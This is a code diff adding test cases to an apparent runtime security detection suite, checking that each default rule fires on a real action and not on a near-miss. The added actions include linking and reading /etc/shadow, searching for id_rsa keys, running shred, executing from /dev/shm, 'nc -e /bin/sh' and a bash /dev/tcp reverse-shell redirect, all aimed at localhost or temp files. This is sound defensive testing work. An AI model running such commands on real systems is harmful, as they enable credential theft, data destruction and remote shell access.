@@ -100,6 +100,16 @@ class DefaultRulesPlanner {
     expect("chmod u+s", "Set-user-id bit set on a file", act("chmod u+s", {chmod, "u+s", setuid_file}),
            {{"fs.path.name", {setuid_file}}});
     near_miss("chmod u+x", act("chmod u+x", {chmod, "u+x", exec_file}));
+
+    const std::string ln = resolved("/bin/ln");
+    expect("ln -s /etc/shadow", "Symbolic link to a sensitive file created",
+           act("symlink to /etc/shadow", {ln, "-s", "/etc/shadow", tmp_ / "shadow-link"}));
+    near_miss("ln -s /etc/hostname",
+              act("symlink to /etc/hostname", {ln, "-s", "/etc/hostname", tmp_ / "hostname-link"}));
+    expect("ln /etc/shadow", "Hard link to a sensitive file created",
+           act("hard link to /etc/shadow", {ln, "/etc/shadow", tmp_ / "shadow-hard"}));
+    near_miss("ln of a plain file",
+              act("hard link to a plain file", {ln, tmp_ / "plain-file", tmp_ / "plain-hard"}));
   }
 
   void processes() {
@@ -128,6 +138,27 @@ class DefaultRulesPlanner {
     expect("BPF_PROG_LOAD", "BPF program loaded", act("bpf prog load", {paths_.helper, "bpf-prog-load"}));
     near_miss("BPF_MAP_CREATE", act("bpf map create", {paths_.helper, "bpf-map-create"}));
 
+    const std::string find = resolved("/usr/bin/find");
+    expect("find id_rsa", "Search for private keys or credentials",
+           act("find id_rsa", {find, tmp_, "-name", "id_rsa"}), {{"proc.name", {"find"}}});
+    near_miss("find *.txt", act("find *.txt", {find, tmp_, "-name", "*.txt"}));
+
+    act("create files", {resolved("/bin/touch"), tmp_ / "to-shred", tmp_ / "to-remove"});
+    expect("shred", "Data destruction tool run", act("shred", {resolved("/usr/bin/shred"), tmp_ / "to-shred"}));
+    near_miss("rm", act("rm", {resolved("/bin/rm"), tmp_ / "to-remove"}));
+
+    const fs::path shm_exe = "/dev/shm/saker-rules-test-" + std::to_string(getpid());
+    fs::copy_file(paths_.helper, shm_exe, fs::copy_options::overwrite_existing);
+    cleanup_.push_back(shm_exe);
+    expect("run from /dev/shm", "Program executed from /dev/shm", act("run from /dev/shm", {shm_exe, "noop"}),
+           {{"proc.exepath", {shm_exe}}});
+    near_miss("run from /tmp", act("run from /tmp", {helper_as("plain-tool"), "noop"}));
+
+    const fs::path nc = helper_as("nc");
+    expect("nc -e /bin/sh", "Netcat run with a program to execute",
+           act("nc -e", {nc, "noop", "-e", "/bin/sh", "127.0.0.1", "4444"}));
+    near_miss("nc -l", act("nc -l", {nc, "noop", "-l", "4444"}));
+
     // unshare happens in a child of the helper
     expect("unshare(CLONE_NEWUTS)", "Namespace changed by an unexpected program",
            act("unshare", {paths_.helper, "unshare"}), {}, "proc.ppid");
@@ -150,6 +181,20 @@ class DefaultRulesPlanner {
            act("pool connect", {paths_.helper, "connect", "127.0.0.1", "3333"}));
     near_miss("connect to another port",
               act("other connect", {helper_as("wget"), "connect", "127.0.0.1", port}));
+  }
+
+  // bash puts a TCP connection on its standard input and output (a reverse shell's move);
+  // the near-miss puts a file there.
+  void reverse_shell() {
+    TcpListener listener("127.0.0.1");
+    const std::string bash = resolved("/bin/bash");
+    const std::string port = std::to_string(listener.port());
+    expect("bash stdio to a socket", "Standard input or output redirected to a network connection",
+           act("bash stdio to a socket",
+               {bash, "-c", "exec 3<>/dev/tcp/127.0.0.1/" + port + " && exec 0<&3 1>&3 && exit 0"}),
+           {{"proc.name", {"bash"}}});
+    near_miss("bash stdin from a file",
+              act("bash stdin from a file", {bash, "-c", "exec 3</etc/hostname && exec 0<&3 && exit 0"}));
   }
 
   void sentinel() { plan_.sentinel = act("sentinel", {resolved("/bin/cat"), "/etc/shadow"}); }
@@ -200,6 +245,7 @@ TEST_CASE("every default rule fires on its real action and not on its near-miss"
   planner.files();
   planner.processes();
   planner.network();
+  planner.reverse_shell();
   planner.sentinel();
   ActionPlan plan = planner.take();
   const pid_t sentinel = plan.sentinel;
